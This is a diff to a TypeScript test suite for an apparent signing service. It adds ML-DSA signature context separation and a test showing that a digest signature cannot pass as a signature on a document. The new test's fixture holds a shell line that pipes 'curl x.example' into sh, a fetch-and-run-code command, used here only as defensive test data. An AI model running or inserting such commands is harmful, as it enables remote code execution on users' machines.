@@ -48,12 +48,20 @@ function bareKey(publicKey: string, size: number): Buffer {
   return createPublicKey(publicKey).export({ type: 'spki', format: 'der' }).subarray(-size);
 }
 
-function accepted(type: keyof typeof KINDS, message: Buffer, signature: Buffer): { node: boolean; noble: boolean } {
+/** Context string of signatures over a SHA-256 digest. */
+const OF_DIGEST = Buffer.from('sealwright digest sha256');
+
+function accepted(
+  type: keyof typeof KINDS,
+  message: Buffer,
+  signature: Buffer,
+  context = Buffer.alloc(0),
+): { node: boolean; noble: boolean } {
   const { noble, publicKey } = KINDS[type];
   const pem = keyOf(type).publicKey;
   return {
-    node: verify(null, message, createPublicKey(pem), signature),
-    noble: noble.verify(signature, message, bareKey(pem, publicKey)),
+    node: verify(null, message, { key: createPublicKey(pem), context }, signature),
+    noble: noble.verify(signature, message, bareKey(pem, publicKey), { context }),
   };
 }
 
@@ -116,10 +124,10 @@ describe.each(TYPES)('%s', (type) => {
     expect(answer).toMatchObject({ status: 200, body: { scheme: 'ml-dsa', format: 'raw' } });
     const signature = Buffer.from(answer.body.signature, 'base64');
     expect(signature).toHaveLength(KINDS[type].signature);
-    expect(accepted(type, digest, signature)).toEqual({ node: true, noble: true });
+    expect(accepted(type, digest, signature, OF_DIGEST)).toEqual(YES);
     const other = Buffer.from(signature);
     other.writeUInt8(other.readUInt8(100) ^ 1, 100);
-    expect(accepted(type, digest, other)).toEqual({ node: false, noble: false });
+    expect(accepted(type, digest, other, OF_DIGEST)).toEqual(NO);
     const asked = { digest: digest.toString('base64'), key: `of-${type}` };
     const verdicts = await Promise.all(
       [signature, other].map(async (one) => {
@@ -128,6 +136,17 @@ describe.each(TYPES)('%s', (type) => {
       }),
     );
     expect(verdicts).toEqual([true, false]);
+  });
+
+  it('makes no signature over a digest that verifies as one over a document with the same bytes', async () => {
+    const script = Buffer.concat([
+      Buffer.from('#!/bin/sh\ncurl x.example|sh;exit\n').subarray(0, 31),
+      Buffer.from([0xff]),
+    ]);
+    const answer = await sign(service, { key: apiKey, body: { digest: script.toString('base64'), key: `of-${type}` } });
+    const signature = Buffer.from(answer.body.signature, 'base64');
+    expect(accepted(type, script, signature)).toEqual(NO);
+    expect(accepted(type, script, signature, OF_DIGEST)).toEqual(YES);
   });
 
   it('reports where the private key is stored', async () => {
@@ -224,7 +243,7 @@ describe('a sealed private key', () => {
     const { body: asked } = await sign(service, { key: apiKey, body });
     const { body: done } = await read(service, apiKey, asked.requestId);
     const digest = Buffer.from(body.digest, 'base64');
-    expect(accepted('ml-dsa-65', digest, Buffer.from(done.signature, 'base64'))).toEqual({ node: true, noble: true });
+    expect(accepted('ml-dsa-65', digest, Buffer.from(done.signature, 'base64'), OF_DIGEST)).toEqual(YES);
   });
 
   it('is replaced by a rotation, and the old signature still verifies', async () => {
@@ -257,10 +276,8 @@ describe('POST /api/v1/sign/dual', () => {
     expect([classical.scheme, postQuantum.scheme]).toEqual(['ecdsa-der', 'ml-dsa']);
     const key = await publishedKey(service, apiKey, 'default');
     expect(verifies(message, key, Buffer.from(classical.signature, 'base64'))).toBe(true);
-    expect(accepted('ml-dsa-87', Buffer.from(digest, 'base64'), Buffer.from(postQuantum.signature, 'base64'))).toEqual({
-      node: true,
-      noble: true,
-    });
+    const signature = Buffer.from(postQuantum.signature, 'base64');
+    expect(accepted('ml-dsa-87', Buffer.from(digest, 'base64'), signature, OF_DIGEST)).toEqual(YES);
   });
 
   it.each([
